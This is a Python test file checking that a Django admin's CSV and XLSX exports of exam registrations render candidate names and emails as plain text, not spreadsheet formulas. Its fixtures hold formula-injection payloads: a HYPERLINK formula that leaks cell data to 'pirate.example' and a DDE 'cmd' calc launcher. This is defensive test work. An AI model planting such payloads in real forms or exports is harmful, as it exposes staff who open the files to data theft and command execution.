"""Staff exports of the registrations list: what a candidate typed never runs as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import RegistrationFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://pirate.example/?"&C2,"x")'
COLUMNS = ["number", "candidate_name", "candidate_email", "version", "created_at"]


@pytest.fixture
def registration():
    candidate = UserFactory(last_name=HYPERLINK, first_name="+1+cmd|' /C calc'!A0", email="=x@exemple.fr")
    return RegistrationFactory(candidate=candidate, number="2024-000042")


def export(staff_client, file_format):
    """The admin's export form, as staff submit it: format 0 is CSV, 1 is XLSX."""
    response = staff_client.post(reverse("admin:exams_registration_export"), {
        "format": file_format, "export_items": [], **{f"registrationresource_{field}": "on" for field in COLUMNS}})
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(staff_client):
    response = export(staff_client, "0")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(staff_client):
    response = export(staff_client, "1")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_cell(sheet, header):
    headers = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=headers.index(header) + 1)


def test_a_name_written_as_a_formula_is_plain_text_in_the_csv_export(staff_client, registration):
    row = csv_rows(staff_client)[0]
    assert row["candidat"] == "'" + HYPERLINK.upper() + " +1+cmd|' /C calc'!A0"
    assert row["adresse électronique"] == "'=x@exemple.fr"
    assert row["number"] == "2024-000042"  # what does not start like a formula is left as it is


@pytest.mark.parametrize("start", ["=", "==", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_gets_an_apostrophe_in_the_csv_export(staff_client, start):
    RegistrationFactory(candidate=UserFactory(last_name=f"{start}1+1"))
    assert csv_rows(staff_client)[0]["candidat"].startswith("'" + start)


def test_a_name_written_as_a_formula_is_a_plain_string_in_the_xlsx_export(staff_client, registration):
    sheet = xlsx_sheet(staff_client)
    name = xlsx_cell(sheet, "candidat")
    assert name.data_type == "s" and name.value == HYPERLINK.upper() + " +1+cmd|' /C calc'!A0"
    email = xlsx_cell(sheet, "adresse électronique")
    assert email.data_type == "s" and email.value == "=x@exemple.fr"
    assert name.quotePrefix  # and it stays text if staff edit the cell


def test_a_doubled_equals_sign_is_a_plain_string_in_the_xlsx_export_too(staff_client):
    RegistrationFactory(candidate=UserFactory(last_name="==1+1"))
    name = xlsx_cell(xlsx_sheet(staff_client), "candidat")
    assert name.data_type == "s" and name.value.startswith("==1+1")


def test_the_xlsx_export_keeps_numbers_and_dates_native(staff_client, registration):
    sheet = xlsx_sheet(staff_client)
    assert xlsx_cell(sheet, "version").value == 1
    assert xlsx_cell(sheet, "created_at").is_date


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(staff_client):
    RegistrationFactory(candidate=UserFactory(last_name="Mar\x01tin"))
    assert xlsx_cell(xlsx_sheet(staff_client), "candidat").value.startswith("MAR\N{REPLACEMENT CHARACTER}TIN")
